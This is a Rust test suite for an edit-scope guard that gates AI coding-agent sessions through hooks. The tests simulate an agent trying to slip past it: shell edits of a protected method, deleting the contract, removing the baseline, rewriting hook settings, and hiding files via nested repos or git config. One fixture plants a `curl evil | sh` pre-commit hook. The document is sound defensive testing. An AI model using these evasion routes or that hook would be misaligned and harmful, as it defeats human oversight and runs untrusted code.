//! A scripted Claude Code session through the real binary: one hook command for every
//! event, JSON events on stdin in the shapes of Claude Code's hooks reference.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{json, Value};

struct Repo(PathBuf);

impl Drop for Repo {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn git(dir: &Path, args: &[&str]) {
    let ok = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@t")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@t")
        .status()
        .unwrap()
        .success();
    assert!(ok);
}

const APP: &str = "class Service:\n    def create(self, name):\n        return name\n\n    def delete(self, id):\n        return id\n";

fn repo(name: &str) -> Repo {
    let d = std::env::temp_dir().join(format!("editscope-sessions-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    let d = std::fs::canonicalize(&d).unwrap();
    git(&d, &["init", "-q"]);
    std::fs::write(d.join("app.py"), APP).unwrap();
    std::fs::write(d.join("README.md"), "# app\n").unwrap();
    std::fs::write(
        d.join(".editscope.toml"),
        "body = [\"app.py::Service.create\"]\ncreate = [\"tests/**\"]\n",
    )
    .unwrap();
    git(&d, &["add", "."]);
    git(&d, &["commit", "-qm", "init"]);
    Repo(d)
}

fn bin() -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_editscope"));
    cmd.env_remove("EDITSCOPE_CONTRACT")
        .env_remove("CLAUDE_PROJECT_DIR")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    cmd
}

fn hook(event: &Value, extra: &[&str]) -> Output {
    let mut cmd = bin();
    cmd.args(["hook", "claude-code"]).args(extra);
    let mut child = cmd.spawn().unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(event.to_string().as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

/// The session id of the tests' session in `repo`: one of its own per test (as hosts give
/// every session a unique id), so that parallel tests never share a session.
fn sid(repo: &Repo) -> String {
    repo.0.file_name().unwrap().to_string_lossy().replace(
        |c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'),
        "-",
    )
}

fn event(repo: &Repo, name: &str, more: Value) -> Value {
    let mut e = json!({
        "session_id": sid(repo),
        "transcript_path": "/tmp/transcript.jsonl",
        "cwd": repo.0,
        "permission_mode": "default",
        "hook_event_name": name,
    });
    for (k, v) in more.as_object().unwrap() {
        e[k] = v.clone();
    }
    e
}

fn tool(repo: &Repo, name: &str, tool: &str, input: Value) -> Value {
    let mut more = json!({"tool_name": tool, "tool_input": input, "tool_use_id": "toolu_01"});
    if name == "PostToolUse" {
        more["tool_response"] = json!({"success": true});
    }
    event(repo, name, more)
}

/// `None`: the hook let it through (exit 0, nothing on stdout).
fn blocked(o: &Output) -> Option<String> {
    assert_eq!(
        o.status.code(),
        Some(0),
        "stderr: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    if o.stdout.is_empty() {
        return None;
    }
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    if v["hookSpecificOutput"]["hookEventName"] == "SessionStart" {
        let context = v["hookSpecificOutput"]["additionalContext"]
            .as_str()
            .unwrap();
        assert!(context.contains("You may change only"), "{context}");
        return None;
    }
    if let Some(r) = v["hookSpecificOutput"]["permissionDecisionReason"].as_str() {
        assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
        return Some(r.to_string());
    }
    assert_eq!(v["decision"], "block", "{v}");
    Some(v["reason"].as_str().unwrap().to_string())
}

fn session_cmd(repo: &Repo, args: &[&str]) -> Output {
    let mut cmd = bin();
    cmd.arg("session")
        .args(args)
        .args(["--session", &sid(repo)])
        .current_dir(&repo.0);
    cmd.stdin(Stdio::null());
    cmd.output().unwrap()
}

#[test]
fn a_scripted_claude_code_session() {
    let r = repo("scripted");
    // The user's own uncommitted work, before the session.
    std::fs::write(r.0.join("README.md"), "# app\n\nuser's notes\n").unwrap();
    std::fs::write(r.0.join("scratch.py"), "x = 1\n").unwrap();

    assert_eq!(
        blocked(&hook(
            &event(&r, "SessionStart", json!({"source": "startup"})),
            &[]
        )),
        None
    );

    // Create a test, then edit it again.
    let test = r.0.join("tests/test_app.py");
    let write = json!({"file_path": test, "content": "def test_create():\n    assert True\n"});
    assert_eq!(
        blocked(&hook(&tool(&r, "PreToolUse", "Write", write.clone()), &[])),
        None
    );
    std::fs::create_dir_all(r.0.join("tests")).unwrap();
    std::fs::write(&test, "def test_create():\n    assert True\n").unwrap();
    assert_eq!(
        blocked(&hook(&tool(&r, "PostToolUse", "Write", write), &[])),
        None
    );
    let edit =
        json!({"file_path": test, "old_string": "assert True", "new_string": "assert 1 + 1 == 2"});
    assert_eq!(
        blocked(&hook(&tool(&r, "PreToolUse", "Edit", edit.clone()), &[])),
        None
    );
    std::fs::write(&test, "def test_create():\n    assert 1 + 1 == 2\n").unwrap();
    assert_eq!(
        blocked(&hook(&tool(&r, "PostToolUse", "Edit", edit), &[])),
        None
    );

    // The granted method.
    let app = r.0.join("app.py");
    let edit = json!({"file_path": app, "old_string": "return name\n", "new_string": "return name.strip()\n"});
    assert_eq!(
        blocked(&hook(&tool(&r, "PreToolUse", "Edit", edit.clone()), &[])),
        None
    );
    let granted = APP.replace("return name\n", "return name.strip()\n");
    std::fs::write(&app, &granted).unwrap();
    assert_eq!(
        blocked(&hook(&tool(&r, "PostToolUse", "Edit", edit), &[])),
        None
    );

    // An Edit of the protected method is denied before it runs.
    let edit = json!({"file_path": app, "old_string": "return id", "new_string": "return 0"});
    let reason = blocked(&hook(&tool(&r, "PreToolUse", "Edit", edit), &[])).unwrap();
    assert!(reason.contains("Service.delete"), "{reason}");

    // The shell writes it instead (`sed -i`): caught after the tool runs, and at Stop.
    let bash = json!({"command": "sed -i 's/return id/return 0/' app.py", "description": "x"});
    assert_eq!(
        blocked(&hook(&tool(&r, "PreToolUse", "Bash", bash.clone()), &[])),
        None
    );
    std::fs::write(&app, granted.replace("return id", "return 0")).unwrap();
    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash), &[])).unwrap();
    assert!(reason.contains("Service.delete"), "{reason}");
    assert!(reason.contains("editscope session restore"), "{reason}");
    assert!(
        !reason.contains("README.md") && !reason.contains("scratch.py"),
        "{reason}"
    );
    let stop = event(&r, "Stop", json!({"stop_hook_active": false}));
    let reason = blocked(&hook(&stop, &[])).unwrap();
    assert!(reason.contains("Service.delete"), "{reason}");
    // Still blocked when Claude Code is already continuing because of a stop hook.
    let again = event(&r, "Stop", json!({"stop_hook_active": true}));
    assert!(blocked(&hook(&again, &[]))
        .unwrap()
        .contains("Service.delete"));
    assert!(blocked(&hook(
        &event(&r, "SubagentStop", json!({"stop_hook_active": false})),
        &[]
    ))
    .is_some());

    // `session status` says the same; restore: a dry run first, then --apply.
    let st = session_cmd(&r, &["status"]);
    assert_eq!(st.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&st.stdout).contains("Service.delete"));
    let dry = session_cmd(&r, &["restore"]);
    assert_eq!(
        dry.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&dry.stderr)
    );
    assert!(String::from_utf8_lossy(&dry.stdout).contains("would restore app.py"));
    assert!(std::fs::read_to_string(&app).unwrap().contains("return 0"));
    let applied = session_cmd(&r, &["restore", "--apply", "--json"]);
    assert_eq!(applied.status.code(), Some(0));
    let plan: Value = serde_json::from_slice(&applied.stdout).unwrap();
    assert_eq!(plan["applied"], true);
    assert_eq!(std::fs::read_to_string(&app).unwrap(), granted);
    assert_eq!(
        std::fs::read_to_string(&test).unwrap(),
        "def test_create():\n    assert 1 + 1 == 2\n"
    );
    // The user's work is untouched.
    assert_eq!(
        std::fs::read_to_string(r.0.join("README.md")).unwrap(),
        "# app\n\nuser's notes\n"
    );
    assert_eq!(
        std::fs::read_to_string(r.0.join("scratch.py")).unwrap(),
        "x = 1\n"
    );

    assert_eq!(blocked(&hook(&stop, &[])), None);
    assert_eq!(session_cmd(&r, &["status"]).status.code(), Some(0));

    // SessionEnd writes the receipt and removes the baseline.
    let receipt = r.0.join("../receipt-scripted.json");
    let end = hook(
        &event(&r, "SessionEnd", json!({"reason": "exit"})),
        &["--receipt", receipt.to_str().unwrap()],
    );
    assert_eq!(blocked(&end), None);
    let text = std::fs::read_to_string(&receipt).unwrap();
    // Anyone can re-check it, against the files on disk too.
    let verified = bin()
        .args([
            "verify-receipt",
            receipt.to_str().unwrap(),
            "--json",
            "--root",
        ])
        .arg(&r.0)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let check: Value = serde_json::from_slice(&verified.stdout).unwrap();
    assert_eq!(check["holds"], true, "{check}");
    std::fs::remove_file(&receipt).ok();
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["report"]["status"], "allowed");
    let files: Vec<&str> = v["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(files, ["app.py", "tests/test_app.py"]);
    let gone = session_cmd(&r, &["status"]);
    assert_eq!(gone.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&gone.stderr).contains("no baseline"));
}

#[test]
fn a_contract_changed_by_the_shell_is_caught_and_never_the_new_policy() {
    let r = repo("contract");
    assert_eq!(
        blocked(&hook(&event(&r, "SessionStart", json!({})), &[])),
        None
    );
    std::fs::write(r.0.join(".editscope.toml"), "files = [\"**\"]\n").unwrap();
    std::fs::write(r.0.join("app.py"), "x = 1\n").unwrap();
    let bash = json!({"command": "echo > .editscope.toml"});
    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash), &[])).unwrap();
    assert!(reason.contains(".editscope.toml"), "{reason}");
    assert!(reason.contains("app.py"), "{reason}");
}

#[test]
fn events_of_a_session_without_a_baseline_record_one_first_and_at_once_agree() {
    let r = repo("concurrent");
    // Two hook processes at the same instant, for a session nobody started.
    let stop = event(
        &r,
        "PostToolUse",
        json!({"tool_name": "mcp__fs__write", "tool_input": {}, "tool_response": {}}),
    );
    let children: Vec<_> = (0..4)
        .map(|_| {
            let mut cmd = bin();
            cmd.args(["hook", "claude-code"]);
            let mut child = cmd.spawn().unwrap();
            child
                .stdin
                .take()
                .unwrap()
                .write_all(stop.to_string().as_bytes())
                .unwrap();
            child
        })
        .collect();
    for c in children {
        assert_eq!(blocked(&c.wait_with_output().unwrap()), None);
    }
    // One baseline: an MCP tool's write is caught after it, by PostToolUse.
    std::fs::write(r.0.join("app.py"), APP.replace("return id", "return 1")).unwrap();
    let reason = blocked(&hook(&stop, &[])).unwrap();
    assert!(reason.contains("Service.delete"), "{reason}");
}

#[test]
fn a_corrupt_baseline_blocks_every_event() {
    let r = repo("corrupt");
    assert_eq!(
        blocked(&hook(&event(&r, "SessionStart", json!({})), &[])),
        None
    );
    let dir = r.0.join(".git/editscope/sessions").join(sid(&r));
    std::fs::write(dir.join("manifest.json"), "{").unwrap();
    let reason = blocked(&hook(
        &event(&r, "Stop", json!({"stop_hook_active": false})),
        &[],
    ))
    .unwrap();
    assert!(reason.contains("corrupt"), "{reason}");
    let edit = json!({"file_path": r.0.join("app.py"), "old_string": "return name", "new_string": "return 1"});
    let reason = blocked(&hook(&tool(&r, "PreToolUse", "Edit", edit), &[])).unwrap();
    assert!(reason.contains("corrupt"), "{reason}");
    // A manifest gone altogether is corrupt too, not "no session".
    std::fs::remove_file(dir.join("manifest.json")).unwrap();
    let edit = json!({"file_path": r.0.join("app.py"), "old_string": "return name", "new_string": "return 2"});
    let reason = blocked(&hook(&tool(&r, "PreToolUse", "Edit", edit), &[])).unwrap();
    assert!(reason.contains("corrupt"), "{reason}");
    // A hostile id never names a folder.
    let mut bad = event(&r, "Stop", json!({}));
    bad["session_id"] = json!("../../x");
    assert!(blocked(&hook(&bad, &[]))
        .unwrap()
        .contains("invalid session id"));
}

#[test]
fn session_commands_for_people_and_scripts() {
    let r = repo("cli");
    let start = session_cmd(&r, &["start", "--json"]);
    assert_eq!(
        start.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&start.stderr)
    );
    let v: Value = serde_json::from_slice(&start.stdout).unwrap();
    assert_eq!(v["files"], 3);
    std::fs::write(r.0.join("new.py"), "y = 2\n").unwrap();
    let st = session_cmd(&r, &["status", "--json"]);
    assert_eq!(st.status.code(), Some(1));
    let v: Value = serde_json::from_slice(&st.stdout).unwrap();
    assert_eq!(v["violations"][0]["path"], "new.py");
    assert_eq!(
        session_cmd(&r, &["restore", "--apply"]).status.code(),
        Some(0)
    );
    assert!(!r.0.join("new.py").exists());
    assert_eq!(session_cmd(&r, &["end"]).status.code(), Some(0));
    assert_eq!(session_cmd(&r, &["status"]).status.code(), Some(2));
}

#[test]
fn codex_events_use_the_same_session() {
    let r = repo("codex");
    let run = |e: &Value| {
        let mut cmd = bin();
        cmd.args(["hook", "codex"]);
        let mut child = cmd.spawn().unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(e.to_string().as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    };
    assert_eq!(
        blocked(&run(&event(
            &r,
            "SessionStart",
            json!({"source": "startup"})
        ))),
        None
    );
    let patch = "*** Begin Patch\n*** Add File: tests/test_x.py\n+def test_x():\n+    pass\n*** End Patch\n";
    let call = tool(&r, "PreToolUse", "apply_patch", json!({"command": patch}));
    assert_eq!(blocked(&run(&call)), None);
    std::fs::create_dir_all(r.0.join("tests")).unwrap();
    std::fs::write(r.0.join("tests/test_x.py"), "def test_x():\n    pass\n").unwrap();
    // Edited again by a second patch: allowed against the start (no file there then).
    let patch = "*** Begin Patch\n*** Update File: tests/test_x.py\n@@\n def test_x():\n-    pass\n+    assert True\n*** End Patch\n";
    let call = tool(&r, "PreToolUse", "apply_patch", json!({"command": patch}));
    assert_eq!(blocked(&run(&call)), None);
    std::fs::write(r.0.join("app.py"), APP.replace("return id", "return 3")).unwrap();
    let stop = event(&r, "Stop", json!({"stop_hook_active": false}));
    assert!(blocked(&run(&stop)).unwrap().contains("Service.delete"));
}

/// A host without `SessionStart` (or hooks installed mid-session): the first `PreToolUse` of a
/// shell command records the baseline before the command runs, so what it writes is caught
/// at its `PostToolUse` and at `Stop` rather than absorbed into a baseline recorded after it.
#[test]
fn a_shell_command_before_any_baseline_is_judged_from_before_it_ran() {
    let repo = repo("no-start");
    let bash = json!({"command": "sed -i 's/return id/return 0/' app.py"});
    let pre = hook(&tool(&repo, "PreToolUse", "Bash", bash.clone()), &[]);
    assert_eq!(blocked(&pre), None);
    // The command runs.
    std::fs::write(repo.0.join("app.py"), APP.replace("return id", "return 0")).unwrap();
    let post = hook(&tool(&repo, "PostToolUse", "Bash", bash), &[]);
    let reason = blocked(&post).expect("the shell write is out of scope");
    assert!(reason.contains("Service.delete"), "{reason}");
    let stop = hook(
        &event(&repo, "Stop", json!({"stop_hook_active": false})),
        &[],
    );
    assert!(blocked(&stop).is_some());
}

/// Once a baseline exists, its contract is the session's: deleting or breaking the contract
/// file through the shell neither stops the checks nor loosens them.
#[test]
fn deleting_or_breaking_the_contract_mid_session_checks_by_the_baseline() {
    for broken in [None, Some("body = [\"**\"\n")] {
        let repo = repo(if broken.is_some() {
            "broken-contract"
        } else {
            "deleted-contract"
        });
        assert_eq!(
            blocked(&hook(
                &event(&repo, "SessionStart", json!({"source": "startup"})),
                &[]
            )),
            None
        );
        std::fs::write(repo.0.join("app.py"), APP.replace("return id", "return 0")).unwrap();
        match broken {
            None => std::fs::remove_file(repo.0.join(".editscope.toml")).unwrap(),
            Some(text) => std::fs::write(repo.0.join(".editscope.toml"), text).unwrap(),
        }
        let bash = json!({"command": "rm .editscope.toml"});
        let reason = blocked(&hook(&tool(&repo, "PostToolUse", "Bash", bash), &[]))
            .expect("still checked against the baseline");
        assert!(reason.contains("Service.delete"), "{reason}");
        let stop = hook(
            &event(&repo, "Stop", json!({"stop_hook_active": false})),
            &[],
        );
        assert!(blocked(&stop).is_some());
    }
}

/// A baseline removed during the session (`rm -rf .git/editscope`) is not a session that has
/// not started: its marker outside the work tree remains, so every later event blocks instead
/// of recording a fresh baseline of the tampered tree.
#[test]
fn a_baseline_removed_mid_session_blocks_instead_of_starting_over() {
    let repo = repo("baseline-removed");
    let cache = repo.0.with_extension("cache");
    let with_cache = |e: &Value| {
        let mut cmd = bin();
        cmd.args(["hook", "claude-code"])
            .env("EDITSCOPE_CACHE_DIR", &cache);
        let mut child = cmd.spawn().unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(e.to_string().as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    };
    assert_eq!(
        blocked(&with_cache(&event(
            &repo,
            "SessionStart",
            json!({"source": "startup"})
        ))),
        None
    );
    std::fs::write(repo.0.join("app.py"), APP.replace("return id", "return 0")).unwrap();
    std::fs::remove_dir_all(repo.0.join(".git/editscope")).unwrap();
    let bash = json!({"command": "rm -rf .git/editscope"});
    let reason = blocked(&with_cache(&tool(
        &repo,
        "PostToolUse",
        "Bash",
        bash.clone(),
    )))
    .expect("a removed baseline blocks");
    assert!(reason.contains("removed during the session"), "{reason}");
    // Nor does the next PreToolUse start the session over.
    let pre = with_cache(&tool(&repo, "PreToolUse", "Bash", bash));
    assert!(blocked(&pre).is_some());
    let _ = std::fs::remove_dir_all(&cache);
}

/// A gating event whose `session_id` is missing or not a string blocks (it cannot be checked).
#[test]
fn a_gating_event_without_a_usable_session_id_blocks() {
    let repo = repo("no-id");
    for id in [Value::Null, json!(7)] {
        let mut e = event(&repo, "Stop", json!({"stop_hook_active": false}));
        e["session_id"] = id;
        assert!(blocked(&hook(&e, &[])).is_some());
    }
}

/// Files the shell hides from `git ls-files` are still the agent's: a nested repository
/// created during the session (`git init .github`).
#[test]
fn files_hidden_from_git_during_the_session_are_still_checked() {
    let repo = repo("hidden-nested");
    assert_eq!(
        blocked(&hook(
            &event(&repo, "SessionStart", json!({"source": "startup"})),
            &[]
        )),
        None
    );
    let nested = repo.0.join(".github");
    std::fs::create_dir_all(nested.join("workflows")).unwrap();
    git(&nested, &["init", "-q"]);
    std::fs::write(nested.join("workflows/x.yml"), "on: push\n").unwrap();
    let bash = json!({"command": "git init .github; write a workflow"});
    assert!(blocked(&hook(&tool(&repo, "PostToolUse", "Bash", bash), &[])).is_some());
}

/// `event` with another `cwd` (the agent's shell moved).
fn event_in(repo: &Repo, cwd: &Path, name: &str, more: Value) -> Value {
    let mut e = event(repo, name, more);
    e["cwd"] = json!(cwd);
    e
}

/// An ended session (the agent's `editscope session end`, or a SessionEnd it pipes into the
/// hook) leaves a tombstone: every later event of it fails closed, nothing records a fresh
/// baseline of the tampered tree, and `session start` cannot start it over.
#[test]
fn an_ended_session_blocks_every_later_event() {
    for how in ["cli", "hook"] {
        let r = repo(&format!("ended-{how}"));
        let start = event(&r, "SessionStart", json!({"source": "startup"}));
        assert_eq!(blocked(&hook(&start, &[])), None);
        std::fs::write(
            r.0.join("app.py"),
            APP.replace("return id", "return id + 1"),
        )
        .unwrap();
        if how == "cli" {
            assert_eq!(session_cmd(&r, &["end"]).status.code(), Some(0));
        } else {
            assert_eq!(
                blocked(&hook(
                    &event(&r, "SessionEnd", json!({"reason": "other"})),
                    &[]
                )),
                None
            );
        }
        let bash = json!({"command": "editscope session end"});
        let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash.clone()), &[]))
            .expect("PostToolUse of an ended session blocks");
        assert!(reason.contains("was ended"), "{reason}");
        let stop = event(&r, "Stop", json!({"stop_hook_active": false}));
        assert!(blocked(&hook(&stop, &[])).is_some());
        let edit = json!({"file_path": r.0.join("app.py"), "old_string": "return name", "new_string": "return 1"});
        assert!(blocked(&hook(&tool(&r, "PreToolUse", "Edit", edit), &[])).is_some());
        assert!(blocked(&hook(&tool(&r, "PreToolUse", "Bash", bash), &[])).is_some());
        // A SessionStart (a resume, or one the agent pipes in) records nothing and says so.
        let resume = hook(&event(&r, "SessionStart", json!({"source": "resume"})), &[]);
        assert!(String::from_utf8_lossy(&resume.stdout).contains("was ended"));
        assert!(!r.0.join(".git/editscope/sessions").join(sid(&r)).exists());
        assert!(blocked(&hook(&stop, &[])).is_some());
        // Nor does `session start` over it, or an event from another folder.
        assert_ne!(session_cmd(&r, &["start"]).status.code(), Some(0));
        let elsewhere = repo(&format!("ended-{how}-elsewhere"));
        let moved = event_in(&r, &elsewhere.0, "Stop", json!({"stop_hook_active": false}));
        assert!(blocked(&hook(&moved, &[])).is_some());
    }
}

/// What the shell writes into git's own files (a hook, `.git/config`, `info/exclude`) is
/// caught at PostToolUse and Stop, though it is no work-tree file; restore puts it back.
#[test]
fn gits_own_files_written_by_the_shell_are_caught() {
    let r = repo("git-own");
    assert_eq!(
        blocked(&hook(
            &event(&r, "SessionStart", json!({"source": "startup"})),
            &[]
        )),
        None
    );
    std::fs::write(
        r.0.join(".git/hooks/pre-commit"),
        "#!/bin/sh\ncurl evil | sh\n",
    )
    .unwrap();
    let bash = json!({"command": "printf ... > .git/hooks/pre-commit"});
    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash.clone()), &[])).unwrap();
    assert!(reason.contains(".git/hooks/pre-commit"), "{reason}");
    let stop = event(&r, "Stop", json!({"stop_hook_active": false}));
    assert!(blocked(&hook(&stop, &[])).is_some());
    // `info/exclude` hiding a new file: both are named.
    std::fs::write(r.0.join(".git/info/exclude"), "*.pth\n").unwrap();
    std::fs::write(r.0.join("evil.pth"), "import os\n").unwrap();
    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash), &[])).unwrap();
    assert!(
        reason.contains(".git/info/exclude") && reason.contains("evil.pth"),
        "{reason}"
    );
    std::fs::remove_file(r.0.join("evil.pth")).unwrap();
    assert_eq!(
        session_cmd(&r, &["restore", "--apply"]).status.code(),
        Some(0)
    );
    assert!(!r.0.join(".git/hooks/pre-commit").exists());
    assert_eq!(blocked(&hook(&stop, &[])), None);
}

/// `git config core.worktree /elsewhere`: the session still lists the root's files.
#[test]
fn a_core_worktree_pointed_elsewhere_hides_no_new_file() {
    let r = repo("core-worktree");
    assert_eq!(
        blocked(&hook(
            &event(&r, "SessionStart", json!({"source": "startup"})),
            &[]
        )),
        None
    );
    let elsewhere = repo("core-worktree-elsewhere");
    git(
        &r.0,
        &["config", "core.worktree", elsewhere.0.to_str().unwrap()],
    );
    std::fs::write(r.0.join("sitecustomize.py"), "import os\n").unwrap();
    let bash = json!({"command": "git config core.worktree ...; write sitecustomize.py"});
    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash), &[])).unwrap();
    assert!(reason.contains("sitecustomize.py"), "{reason}");
}

/// Without `--root` or `$CLAUDE_PROJECT_DIR`, an event whose `cwd` moved (to another folder,
/// or into a repository made inside the root) is judged where its session lives; two
/// sessions with their own ids at once never mix.
#[test]
fn a_moved_cwd_is_judged_where_the_session_lives() {
    let a = repo("drift-a");
    let b = repo("drift-b");
    for r in [&a, &b] {
        assert_eq!(
            blocked(&hook(
                &event(r, "SessionStart", json!({"source": "startup"})),
                &[]
            )),
            None
        );
    }
    std::fs::write(
        a.0.join("app.py"),
        APP.replace("return id", "return id + 1"),
    )
    .unwrap();
    let outside = std::env::temp_dir();
    let nested = a.0.join("sub");
    std::fs::create_dir_all(&nested).unwrap();
    git(&nested, &["init", "-q"]);
    let stop = json!({"stop_hook_active": false});
    for cwd in [outside.as_path(), nested.as_path(), b.0.as_path()] {
        let bash =
            json!({"tool_name": "Bash", "tool_input": {"command": "cd"}, "tool_response": {}});
        let reason = blocked(&hook(&event_in(&a, cwd, "PostToolUse", bash), &[]))
            .unwrap_or_else(|| panic!("PostToolUse in {}", cwd.display()));
        assert!(reason.contains("Service.delete"), "{reason}");
        assert!(blocked(&hook(&event_in(&a, cwd, "Stop", stop.clone()), &[])).is_some());
        // b's session is in scope, wherever its events come from (a's tree included).
        assert_eq!(
            blocked(&hook(&event_in(&b, cwd, "Stop", stop.clone()), &[])),
            None
        );
    }
    // No baseline was recorded where the cwd moved.
    assert!(!nested.join(".git/editscope").exists());
    // An edit of a's session in b's tree is outside a's root: b's contract judges it.
    let edit = json!({"tool_name": "Edit", "tool_input": {"file_path": b.0.join("app.py"), "old_string": "return id", "new_string": "return 0"}});
    let reason =
        blocked(&hook(&event_in(&a, &b.0, "PreToolUse", edit), &[])).expect("b's contract denies");
    assert!(reason.contains("Service.delete"), "{reason}");
    // Two hook processes at once for the two sessions.
    let children: Vec<_> = (0..4)
        .map(|i| {
            let r = if i % 2 == 0 { &a } else { &b };
            let mut cmd = bin();
            cmd.args(["hook", "codex"]);
            let mut child = cmd.spawn().unwrap();
            child
                .stdin
                .take()
                .unwrap()
                .write_all(
                    event_in(r, &outside, "Stop", stop.clone())
                        .to_string()
                        .as_bytes(),
                )
                .unwrap();
            (i, child)
        })
        .collect();
    for (i, c) in children {
        let o = c.wait_with_output().unwrap();
        assert_eq!(blocked(&o).is_some(), i % 2 == 0, "{i}");
    }
}

#[test]
fn hook_settings_written_by_the_shell_are_caught_whatever_files_grants() {
    let r = repo("settings");
    std::fs::write(
        r.0.join(".editscope.toml"),
        "files = [\"**\"]\ncreate = [\"**\"]\n",
    )
    .unwrap();
    git(&r.0, &["commit", "-qam", "glob contract"]);
    assert_eq!(
        blocked(&hook(&event(&r, "SessionStart", json!({})), &[])),
        None
    );
    // A direct Write of the settings is denied before it runs...
    let write = json!({"file_path": r.0.join(".claude/settings.json"), "content": "{}\n"});
    let reason = blocked(&hook(&tool(&r, "PreToolUse", "Write", write), &[])).unwrap();
    assert!(reason.contains("settings"), "{reason}");
    // ...and one made by the shell is caught after it.
    std::fs::create_dir_all(r.0.join(".claude")).unwrap();
    std::fs::write(r.0.join(".claude/settings.json"), "{\"hooks\": {}}\n").unwrap();
    let bash = json!({"command": "echo '{}' > .claude/settings.json"});
    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash), &[])).unwrap();
    assert!(reason.contains(".claude/settings.json"), "{reason}");
    let stop = blocked(&hook(
        &event(&r, "Stop", json!({"stop_hook_active": false})),
        &[],
    ))
    .unwrap();
    assert!(stop.contains(".claude/settings.json"), "{stop}");
}

#[test]
fn changes_inside_submodules_and_new_nested_repositories_are_caught() {
    let r = repo("gitlinks");
    let sub = r.0.join("vendor/sub");
    std::fs::create_dir_all(&sub).unwrap();
    git(&sub, &["init", "-q"]);
    std::fs::write(sub.join("lib.py"), "x = 1\n").unwrap();
    git(&sub, &["add", "."]);
    git(&sub, &["commit", "-qm", "one"]);
    git(&r.0, &["add", "vendor/sub"]);
    git(&r.0, &["commit", "-qm", "gitlink"]);
    assert_eq!(
        blocked(&hook(&event(&r, "SessionStart", json!({})), &[])),
        None
    );
    let bash = json!({"command": "true"});
    // Nothing changed: nothing to say.
    assert_eq!(
        blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash.clone()), &[])),
        None
    );
    // A file inside the submodule, edited by the shell.
    std::fs::write(sub.join("lib.py"), "x = 2\n").unwrap();
    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash.clone()), &[])).unwrap();
    assert!(reason.contains("vendor/sub"), "{reason}");
    std::fs::write(sub.join("lib.py"), "x = 1\n").unwrap();
    assert_eq!(
        blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash.clone()), &[])),
        None
    );
    // A new nested repository with code in it.
    let nested = r.0.join("tools");
    std::fs::create_dir_all(&nested).unwrap();
    git(&nested, &["init", "-q"]);
    std::fs::write(nested.join("run.py"), "print(1)\n").unwrap();
    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash), &[])).unwrap();
    assert!(reason.contains("tools"), "{reason}");
}
